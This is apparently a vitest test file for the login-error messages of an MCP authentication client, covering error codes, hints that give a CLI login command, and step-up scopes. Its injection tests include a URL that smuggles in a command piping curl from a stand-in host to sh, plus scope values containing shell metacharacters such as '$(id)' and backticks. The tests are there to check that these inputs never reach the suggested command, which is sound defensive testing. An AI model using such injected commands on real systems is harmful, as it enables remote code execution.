import { McpAuthError } from '@mcpauth/core'
import { memoryStore } from '@mcpauth/token-store'
import { expect, test } from 'vitest'
import { type LoginErrors, loginErrors } from '../src/login-errors.ts'
import { checkOptions } from '../src/options.ts'

const errorsOf = (options = {}) => loginErrors(checkOptions('https://mcp.example.com/mcp', { store: memoryStore(), ...options }))

test.each<[string, (errors: LoginErrors) => McpAuthError]>([
  ['MCPAUTH_LOGIN_REQUIRED', (errors) => errors.required()],
  ['MCPAUTH_LOGIN_PENDING', (errors) => errors.pending()],
  ['MCPAUTH_LOGIN_FAILED', (errors) => errors.tookTooLong()],
  ['MCPAUTH_LOGIN_REQUIRED', (errors) => errors.notRenewable()],
  ['MCPAUTH_DISCOVERY_FAILED', (errors) => errors.notNeeded()],
  ['MCPAUTH_STEP_UP_REQUIRED', (errors) => errors.stepUpRequired('a', 'asks for a scope')]
])('%s names the server and says what to do', (code, make) => {
  expect(make(errorsOf())).toMatchObject({ code, message: expect.stringContaining('mcp.example.com'), hint: expect.stringMatching(/./) })
})

test('T20: a login that is required names the command, with the profile', () => {
  expect(errorsOf().required().hint).toMatch(/run: npx @mcpauth\/cli login https:\/\/mcp\.example\.com\/mcp \(/)
  expect(errorsOf({ profile: 'work' }).required().hint).toContain('login https://mcp.example.com/mcp --profile work')
})

test('T14: a URL that a shell would run is in no command', () => {
  const settings = checkOptions('https://mcp.example.com/;curl$IFS-s$IFS//evil.example|sh', { store: memoryStore() })
  expect(loginErrors(settings).required().hint).toContain('run: npx @mcpauth/cli login <url> (')
})

test('a login that is required says why, where there is a why, and what keeps the store from being used', () => {
  const why = new McpAuthError('MCPAUTH_NETWORK', 'the reason')
  expect(errorsOf().required(why)).toMatchObject({ message: expect.stringContaining('(the reason)'), cause: why })
  expect(errorsOf().required().message).not.toContain('(')
  const trouble = new McpAuthError('MCPAUTH_STORE_UNAVAILABLE', 'the trouble')
  const settings = checkOptions('https://mcp.example.com/mcp', { store: memoryStore() })
  const errors = loginErrors({ ...settings, store: { ...settings.store, trouble: () => trouble } })
  expect(errors.required()).toMatchObject({ message: expect.stringContaining('the trouble'), cause: trouble })
})

test.each<[string, string | undefined, string | undefined]>([
  ['words and dots', 'files:read files.write', '--scope "files:read files.write"'],
  ['a URL', 'https://api.example/x', '--scope "https://api.example/x"'],
  ['a quote', 'a";id', undefined],
  ['a command', 'a$(id)', undefined],
  ['a back quote', '`id`', undefined],
  ['a backslash', 'a\\b', undefined],
  ['a good word before a bad one', 'a b&c', undefined],
  ['a bad word before a good one', '&a b', undefined],
  ['nothing', undefined, undefined]
])('T14: of a scope that a server asks for, %s goes into the command only when no shell would run it', (_name, scope, expected) => {
  const { hint } = errorsOf().stepUpRequired(scope, 'asks for a scope')
  if (expected === undefined) expect(hint).toBe('run: npx @mcpauth/cli login https://mcp.example.com/mcp')
  else expect(hint).toContain(expected)
})

test('a step-up names the scope, where there is one', () => {
  expect(errorsOf().stepUpRequired('files:read', 'asks for a scope').message).toMatch(/: files:read$/)
  expect(errorsOf().stepUpRequired(undefined, 'asks for a scope').message).toMatch(/asks for a scope$/)
})

test('a login that nobody finished makes the registration suspect', () => {
  expect(errorsOf({ profile: 'work' }).tookTooLong().hint).toContain('--profile work --new-registration')
})
